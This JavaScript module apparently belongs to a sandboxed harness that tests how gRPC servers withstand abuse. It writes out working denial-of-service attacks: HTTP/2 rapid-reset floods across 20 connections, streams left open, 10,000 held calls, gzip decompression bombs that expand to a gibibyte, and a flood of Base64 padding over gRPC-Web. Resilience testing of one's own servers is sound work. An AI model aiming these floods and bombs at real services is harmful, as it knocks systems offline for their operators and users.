/** Callers of gRPC that open too much, reset what they begin, or send bombs. */

import { gzipSync } from 'node:zlib';
import { attacksOf, flood } from '../attacker.js';
import * as h2 from '../http2-frames.js';
import { http2Success, success } from '../reach.js';

const grpc = { 'content-type': 'application/grpc', te: 'trailers', 'x-sandbox': 'grpc-attack' };
const gzip = { ...grpc, 'grpc-encoding': 'gzip' };

/**
 * A message with its prefix.
 *
 * @param {Uint8Array} bytes
 * @param {number} [flag]
 */
function framed(bytes, flag = 0) {
  const prefix = Buffer.alloc(5);
  prefix[0] = flag;
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
}

/**
 * A call on a stream, with its messages in frames of at most 16 KiB.
 *
 * @param {number} stream
 * @param {Buffer} head
 * @param {Buffer} body
 * @param {boolean} [isOpen] Whether more would follow
 */
function call(stream, head, body, isOpen = false) {
  const frames = [h2.frame(h2.types.headers, h2.endHeaders, stream, head)];
  for (let at = 0; at < body.length; at += 16_384) {
    const isLast = at + 16_384 >= body.length && !isOpen;
    const part = body.subarray(at, at + 16_384);
    frames.push(h2.frame(h2.types.data, isLast ? h2.endStream : 0, stream, part));
  }
  return Buffer.concat(frames);
}

const sum = h2.requestBlock('POST', '/addsvc.Add/Sum', grpc);
const sumBody = framed(Buffer.from([8, 3, 16, 4]));
const watch = h2.requestBlock('POST', '/practice.v1.Books/Watch', grpc);
const imports = h2.requestBlock('POST', '/practice.v1.Books/Import', grpc);
const echoes = h2.requestBlock('POST', '/practice.v1.Echo/ClientStream', gzip);
const tiny = h2.requestBlock('POST', '/practice.v1.Echo/BidiStream', grpc);

/** @type {Buffer | undefined} */
let made;
/** Returns a gibibyte of zeros, compressed: made when it is first sent. */
const bomb = () => {
  made ??= framed(gzipSync(Buffer.alloc(2 ** 30), { level: 9 }), 1);
  return made;
};

/** Lawful messages that each decompress to 4 MB. */
const large = framed(gzipSync(Buffer.alloc(4_000_000), { level: 9 }), 1);

/**
 * Keeps connections busy with bytes for each turn.
 *
 * @param {(turn: number) => Buffer} bytesAt
 * @param {Buffer} example
 * @returns {import('../attacker.js').Attack['run']}
 */
const floodWith = (bytesAt, example) => (attacker) => {
  attacker.reach.example(Buffer.concat([h2.begin(), example]));
  return attacker.reopen(20, (socket) => {
    socket.resume();
    socket.write(h2.begin());
    flood(socket, (turn) => (attacker.isOver() ? undefined : bytesAt(turn)));
  });
};

const example = call(1, sum, sumBody);

/** @param {number} turn */
const resetCalls = (turn) =>
  Buffer.concat(
    Array.from({ length: 50 }, (_, index) => {
      const stream = h2.streamAt(turn * 50 + index);
      return Buffer.concat([
        h2.frame(h2.types.headers, h2.endHeaders, stream, sum),
        h2.frame(h2.types.rstStream, 0, stream, h2.uint32(8)),
      ]);
    }),
  );

const overHttp2 = attacksOf(
  {
    'gRPC: calls that are reset at once, on 20 connections': floodWith(resetCalls, example),
    'gRPC: client streams that fail and do not end': floodWith(
      (turn) => call(h2.streamAt(turn), imports, framed(Buffer.alloc(0)), true),
      example,
    ),
    'gRPC: streams of messages that decompress to 4 MB': floodWith(
      (turn) => call(h2.streamAt(turn), echoes, Buffer.concat([large, large, large])),
      example,
    ),
    'gRPC: streams of empty messages': floodWith(
      (turn) => call(h2.streamAt(turn), tiny, Buffer.alloc(16_000)),
      example,
    ),
    'gRPC: 10,000 open calls, on 100 connections': (attacker) => {
      attacker.reach.example(Buffer.concat([h2.begin(), example]));
      return attacker.hold(100, (socket) => {
        socket.resume();
        socket.write(h2.begin());
        for (let index = 0; index < 100; index++) {
          socket.write(call(h2.streamAt(index), watch, framed(Buffer.alloc(0))));
        }
      });
    },
  },
  {
    // Its frames are written for a server without a proxy, and without a key.
    isFor: ({ isProxied, hasAccounts }) => !isProxied && !hasAccounts,
    reaches: http2Success,
  },
);

const text = { 'Content-Type': 'application/grpc-web-text' };
const web = { 'Content-Type': 'application/grpc-web', 'Grpc-Encoding': 'gzip' };

/**
 * Sends a call of gRPC-Web on some connections again and again.
 *
 * @param {Record<string, string>} headers
 * @param {() => string} body Each byte a character
 * @returns {import('../attacker.js').Attack['run']}
 */
const repeatOverWeb = (headers, body) => (attacker) =>
  attacker.reopen(8, (socket) => {
    socket.resume();
    const parts = { headers: { Connection: 'close', ...headers }, body: body() };
    socket.write(attacker.bytes('POST', '/practice.v1.Echo/Unary', parts), 'latin1');
  });

const overWeb = attacksOf(
  {
    'gRPC-Web: bombs of a gibibyte': repeatOverWeb(web, () => bomb().toString('latin1')),
    'gRPC-Web: two million parts of Base64': repeatOverWeb(text, () => 'A='.repeat(2_500_000)),
  },
  { reaches: success },
);

export const grpcAttacks = [...overHttp2, ...overWeb];
